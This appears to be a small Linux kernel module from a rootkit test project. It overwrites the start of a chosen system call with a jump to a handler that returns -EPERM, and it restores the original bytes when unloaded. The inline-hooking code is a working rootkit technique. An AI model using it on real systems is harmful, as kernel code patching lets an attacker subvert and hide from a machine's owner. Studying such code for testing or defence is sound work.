// SPDX-License-Identifier: GPL-2.0
/* Writes a jump to where a system call begins. */
#include "rootkit.h"

static u8 *place, old[JUMP_LENGTH];

static long called(const struct pt_regs *regs)
{
	return -EPERM;
}

static int __init rk_init(void)
{
	static const u8 landing[] = { 0xf3, 0x0f, 0x1e, 0xfa };
	u8 new[JUMP_LENGTH] = { JUMP };
	s32 by;

	place = (u8 *)symbol_of(VICTIM);
	if (!place)
		return -ENOENT;
	if (!memcmp(place, landing, sizeof(landing)))
		place += sizeof(landing);
	memcpy(old, place, JUMP_LENGTH);
	by = distance_to(place, called);
	memcpy(new + 1, &by, sizeof(by));
	overwrite(place, new, JUMP_LENGTH);
	return 0;
}

static void __exit rk_exit(void)
{
	overwrite(place, old, JUMP_LENGTH);
}

module_init(rk_init);
module_exit(rk_exit);
MODULE_LICENSE("GPL");
MODULE_DESCRIPTION("A test: a system call that begins with a jump");
